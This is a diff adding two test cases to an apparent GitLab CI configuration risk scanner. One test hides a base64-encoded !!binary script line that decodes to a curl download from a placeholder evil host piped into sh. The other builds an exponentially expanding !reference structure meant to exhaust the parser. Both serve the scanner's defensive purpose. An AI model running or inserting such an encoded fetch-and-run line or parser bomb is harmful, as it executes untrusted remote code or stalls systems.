@@ -200,3 +200,28 @@ TEST_CASE("issue 16: variables, entrypoints and a template's other keys are read
 }
 
 }  // namespace riskgate::evaluate::pins
+
+namespace riskgate::evaluate::pins {
+
+TEST_CASE("issue 16: a !!binary script line is judged as the command it decodes to",
+          "[pins][gitlab]") {
+  // GitLab's parser decodes !!binary into the string the runner executes.
+  const std::string encoded = "Y3VybCAtZnNTTCBodHRwczovL2V2aWwuZXhhbXBsZS94LnNoIHwgc2g=";
+  CHECK(
+      Lines(Gitlab("build:\n  image: " + kDigest + "\n  script:\n    - !!binary " + encoded + "\n"),
+            "download-then-execute") == std::vector<int>{4});
+}
+
+TEST_CASE("issue 16: references that multiply past the node budget are unparsable, not a hang",
+          "[pins][gitlab]") {
+  std::string text = ".l0:\n  x: [a]\n";
+  for (int level = 1; level <= 9; ++level) {
+    text += ".l" + std::to_string(level) + ":\n  x:\n";
+    for (int copy = 0; copy < 10; ++copy) {
+      text += "    - !reference [.l" + std::to_string(level - 1) + ", x]\n";
+    }
+  }
+  CHECK(Rules(Gitlab(text)) == std::vector<std::string>{"unparsable-config"});
+}
+
+}  // namespace riskgate::evaluate::pins
